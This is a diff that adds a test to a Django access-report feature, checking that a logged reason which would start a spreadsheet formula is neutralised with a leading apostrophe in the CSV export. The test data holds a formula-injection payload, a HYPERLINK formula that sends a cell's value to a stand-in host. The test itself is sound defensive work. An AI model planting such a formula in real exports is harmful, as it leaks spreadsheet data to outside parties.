@@ -100,3 +100,18 @@ def test_an_access_report_too_long_for_one_pdf_points_to_a_shorter_period(
 def test_others_cannot_download_the_access_report_pdf(client, desk, logs):
     client.force_login(desk)
     assert client.get(REPORT, {"format": "pdf"}).status_code == 403
+
+
+def test_a_reason_that_would_start_a_formula_is_neutralised_in_the_csv(client, ppid, logs):
+    formula = '=HYPERLINK("http://contoh.example/?d="&A1,"Buka")'
+    AccessLog.objects.create(
+        version=logs[1].softcopies.get().versions.get(),
+        user=ppid,
+        reason=formula,
+        sha256="b" * 64,
+        ip="10.0.0.2",
+    )
+    client.force_login(ppid)
+    response = client.get(REPORT, {"record": logs[1].pk, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert sorted(r[6] for r in rows[1:]) == ["'" + formula, "Rapat pleno"]
